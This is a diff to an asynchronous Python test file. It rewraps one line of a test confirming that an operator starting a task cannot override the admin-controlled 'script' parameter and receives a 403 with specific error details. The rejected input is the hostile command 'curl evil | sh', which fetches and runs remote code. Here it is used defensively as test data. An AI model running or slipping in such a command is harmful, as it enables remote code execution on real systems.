@@ -239,7 +239,8 @@ async def test_a_start_sets_only_the_params_its_task_declares_overridable(api, n
                      {"name": "mode", "choices": ["full", "incremental"]}, {"name": "days", "type": "integer"}],
     )
     # the code a module runs is the admin's: an operator's start may not replace it
-    error = await expect_error(403, api.call("task", "start", {"id": task["id"], "params": {"script": "curl evil | sh"}}))
+    error = await expect_error(403, api.call("task", "start", {"id": task["id"],
+                                                                "params": {"script": "curl evil | sh"}}))
     assert "does not let a start set script" in error.message and "days, mode, target" in error.message
     assert error.details == {"params": ["script"], "overridable": ["days", "mode", "target"]}
     for params, said in (({"days": "7"}, "param 'days' must be an integer, got string"),
